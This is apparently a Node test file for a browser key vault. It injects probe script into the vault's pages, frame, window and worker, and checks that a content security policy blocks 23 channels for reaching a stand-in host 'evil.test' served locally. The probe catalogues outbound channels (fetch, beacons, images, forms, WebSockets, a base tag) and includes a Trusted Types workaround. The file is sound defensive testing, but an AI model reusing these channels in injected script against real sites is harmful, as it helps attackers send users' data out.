// egress: script in the vault's own pages, its frame, its window and its worker tries every way of asking a host that is in no
// policy. Listeners on this machine, to which such names lead, count connections and requests. For what would become a frame's
// content, Chromium 156 opens a connection before it asks the policy (measured): no request goes over it.
import assert from 'node:assert/strict'
import { createServer } from 'node:https'
import { after, before, describe, test } from 'node:test'
import { listen, stop } from '../../scripts/local-server.mjs'
import { certificate } from '../browser/support/providers.mjs'
import { connectHost, frameOf, HOST, openWindow, startEmbedding, VAULT } from '../browser/support/embed.mjs'

/** Runs in the vault worker before its own code. */
const AGENT = `new BroadcastChannel('egress').addEventListener('message', async ({ data, target }) => {
  if (typeof data !== 'string') return
  const tried = []
  const attempt = async (name, use) => { tried.push(name); await Promise.race([(async () => use())().catch(() => {}), new Promise((done) => setTimeout(done, 600))]) }
  await attempt('fetch', () => fetch(data, { mode: 'no-cors' }))
  await attempt('XHR', () => { const one = new XMLHttpRequest(); one.open('GET', data, false); one.send() })
  await attempt('WebSocket', () => new Promise((done, fail) => { const one = new WebSocket(data.replace('https', 'wss')); one.onopen = done; one.onerror = () => fail(new Error('closed')) }))
  await attempt('EventSource', () => new Promise((done, fail) => { const one = new EventSource(data); one.onopen = done; one.onerror = () => { one.close(); fail(new Error('closed')) } }))
  await attempt('import', () => import(data + 'x.js'))
  await attempt('importScripts', () => importScripts(data + 'x.js'))
  target.postMessage({ tried })
})`

/** Runs in a page. */
async function tryAll([url, framed]) {
  const tried = []
  // Of some that are not let through, no engine says a word.
  const attempt = (name, use) => {
    tried.push(name)
    const soon = new Promise((done) => setTimeout(done, 600))
    return Promise.race([(async () => use())().catch(() => {}), soon])
  }
  const added = (tag, fields) => {
    const element = Object.assign(document.createElement(tag), fields)
    ;(document.body ?? document.documentElement).append(element)
    return new Promise((done) => {
      element.addEventListener('load', done)
      element.addEventListener('error', done)
      setTimeout(done, 400)
    })
  }
  // Under Trusted Types no text becomes a script's address: an attacker who has got this far has found a way around that.
  const trusted = (text) =>
    globalThis.trustedTypes?.createPolicy?.('keyhold-url', { createScriptURL: (one) => one })?.createScriptURL(text) ??
    text
  await attempt('fetch', () => fetch(`${url}fetch`, { mode: 'no-cors' }))
  await attempt('fetch keepalive', () => fetch(`${url}keepalive`, { mode: 'no-cors', keepalive: true }))
  await attempt('XHR', () => {
    const request = new XMLHttpRequest()
    request.open('GET', `${url}xhr`)
    request.send()
    return new Promise((done) => request.addEventListener('loadend', done))
  })
  await attempt('WebSocket', () => {
    const socket = new WebSocket(url.replace('https', 'wss'))
    return new Promise((done) => socket.addEventListener('close', done))
  })
  await attempt('EventSource', () => {
    const source = new EventSource(`${url}events`)
    return new Promise((done) => source.addEventListener('error', () => done(source.close())))
  })
  await attempt('beacon', () => navigator.sendBeacon(`${url}beacon`, 'x'))
  await attempt('image', () => added('img', { src: `${url}image` }))
  await attempt('audio', () => added('audio', { src: `${url}audio` }))
  await attempt('object', () => added('object', { data: `${url}object` }))
  await attempt('frame', () => added('iframe', { src: `${framed}frame` }))
  await attempt('style sheet', () => added('link', { rel: 'stylesheet', href: `${url}style` }))
  await attempt('prefetch', () => added('link', { rel: 'prefetch', href: `${url}prefetch` }))
  await attempt('preload', () => added('link', { rel: 'preload', as: 'image', href: `${url}preload` }))
  await attempt('module preload', () => added('link', { rel: 'modulepreload', href: `${url}modulepreload` }))
  await attempt('manifest', () => added('link', { rel: 'manifest', href: `${url}manifest` }))
  await attempt('icon', () => added('link', { rel: 'icon', href: `${url}icon` }))
  await attempt('script', () => added('script', { src: trusted(`${url}script`) }))
  await attempt('import', () => import(`${url}import.js`))
  await attempt('worker', () => new Worker(trusted(`${url}worker`)))
  await attempt('font', () => new FontFace('x', `url(${url}font)`).load())
  await attempt('picture of a style', () => added('div', { style: `background: url(${url}style-image)` }))
  await attempt('form', () => {
    const target = Object.assign(document.createElement('iframe'), { name: 'form-target' })
    const form = Object.assign(document.createElement('form'), {
      action: `${framed}form`,
      method: 'post',
      target: 'form-target',
    })
    document.body.append(target, form)
    form.submit()
    return new Promise((done) => setTimeout(done, 300))
  })
  await attempt('base', () => {
    document.head.append(Object.assign(document.createElement('base'), { href: url }))
    return added('img', { src: 'based' })
  })
  document.querySelector('base')?.remove()
  return tried.length
}
const WAYS = 23

/** Counts what comes, and answers it. */
async function startListener() {
  const seen = { connections: 0, requests: 0 }
  const server = createServer(certificate(), (_, outgoing) => {
    seen.requests += 1
    outgoing.end()
  })
  server.on('connection', () => (seen.connections += 1))
  server.on('upgrade', (_, socket) => {
    seen.requests += 1
    socket.destroy()
  })
  await listen(server, 0)
  return { seen, port: server.address().port, stop: () => stop(server) }
}

let evil
let framed
before(async () => {
  evil = await startListener()
  framed = await startListener()
})
after(() => Promise.all([evil.stop(), framed.stop()]))

/** @returns by place: connections, and requests for what would be a frame's content */
async function counted(options = {}) {
  const world = await startEmbedding({
    prelude: AGENT,
    config: { customEndpoints: false },
    resolve: [`MAP evil.test 127.0.0.1:${evil.port}`, `MAP framed.test 127.0.0.1:${framed.port}`],
    ...options,
  })
  const made = {}
  const count = async (place, use) => {
    const before = [evil.seen.connections, framed.seen.requests]
    await use()
    await new Promise((done) => setTimeout(done, 300))
    made[place] = [evil.seen.connections - before[0], framed.seen.requests - before[1]]
  }
  try {
    const context = await world.browser.newContext()
    const page = await context.newPage()
    page.setDefaultTimeout(20_000)
    const all = ['https://evil.test/', 'https://framed.test/']
    const tryThere = async (where) => assert.equal(await where.evaluate(tryAll, all), WAYS)
    for (const name of ['index.html', 'callback.html', 'verify.html']) {
      await page.goto(`${VAULT}/${name}`)
      await page.waitForTimeout(300)
      await count(name, () => tryThere(page))
    }
    await page.goto(HOST)
    await connectHost(page, { place: true })
    await page.evaluate(() => window.vault.status())
    await count('frame.html', () => tryThere(frameOf(page)))
    const opened = await openWindow(page)
    await count('unlock.html', () => tryThere(opened))
    await count('worker', async () => {
      const tried = await frameOf(page).evaluate(
        (url) =>
          new Promise((done) => {
            const channel = new BroadcastChannel('egress')
            channel.addEventListener('message', ({ data }) => done(data.tried))
            channel.postMessage(url)
          }),
        all[0],
      )
      assert.equal(tried.length, 6)
    })
    return made
  } finally {
    await world.stop()
  }
}

describe('script in the vault itself', () => {
  test('makes no connection to a host that is in no policy', { timeout: 120_000 }, async () => {
    const made = await counted()
    assert.equal(Object.keys(made).length, 6)
    for (const [place, counts] of Object.entries(made)) assert.deepEqual(counts, [0, 0], place)
  })
  test('control: where the server sends no policy, each place makes some', { timeout: 120_000 }, async () => {
    const made = await counted({ alterPolicy: () => "frame-ancestors 'self' https:" })
    for (const [place, [connections, requests]] of Object.entries(made)) {
      assert.ok(connections >= (place === 'worker' ? 1 : 4), `${place}: ${connections} connections`)
      assert.equal(requests, place === 'worker' ? 0 : 2, `${place}: frame and form`)
    }
  })
})
